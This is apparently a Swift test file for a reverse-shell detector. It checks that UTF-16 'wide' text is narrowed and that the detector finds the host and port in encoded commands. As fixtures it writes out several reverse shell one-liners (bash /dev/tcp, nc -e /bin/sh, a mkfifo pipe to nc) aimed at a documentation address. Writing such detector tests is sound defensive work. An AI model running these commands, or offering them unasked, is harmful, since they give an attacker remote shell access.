import Bytes
import Testing

@testable import Detectors

@Suite struct WideTextTests {
  private func narrowed(_ text: String) -> String? {
    text.withView { WideText.narrowed($0) }.map { String(decoding: $0, as: UTF8.self) }
  }

  private func wide(_ text: String) -> String { text.map { "\($0)\0" }.joined() }

  @Test func zerosComeOutOfUTF16Alone() {
    #expect(narrowed(wide("nc -e /bin/sh h 1")) == "nc -e /bin/sh h 1")
    #expect(narrowed("\0" + String(wide("nc -e /bin/sh h 1").dropLast())) == "nc -e /bin/sh h 1")
    #expect(narrowed("\u{1}\u{2}x" + wide("socat TCP:h:1") + "\0\0\u{3}") == "\u{1}\u{2}xsocat TCP:h:1\0\0\u{3}")
    #expect(narrowed("nc\0-e\0/bin/sh\0h\01\0") == nil)
    #expect(narrowed("") == nil)
    #expect(narrowed("\0\0\0\0") == nil)
    #expect(narrowed(wide("a b c d")) == nil)
  }

  @Test(arguments: [TextOrigin.command, .bytes])
  func shellsAreSeenInIt(origin: TextOrigin) {
    for command in [
      "bash -i >& /dev/tcp/198.51.100.9/4242 0>&1", "nc -e /bin/sh 198.51.100.9 4242",
      "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.9 4242 >/tmp/f",
    ] {
      let text = "\u{1}\u{2}\0\0" + wide(command) + "\0\0\u{4}"
      let found = text.withView { ReverseShellDetector().scan($0, origin) }.first
      #expect(found?.host == "198.51.100.9", "\(command)")
      #expect(found?.port == 4242)
    }
    let check = wide("timeout 1 bash -c '</dev/tcp/198.51.100.9/4242' && echo open")
    #expect(check.withView { ReverseShellDetector().scan($0, origin) }.isEmpty)
  }
}
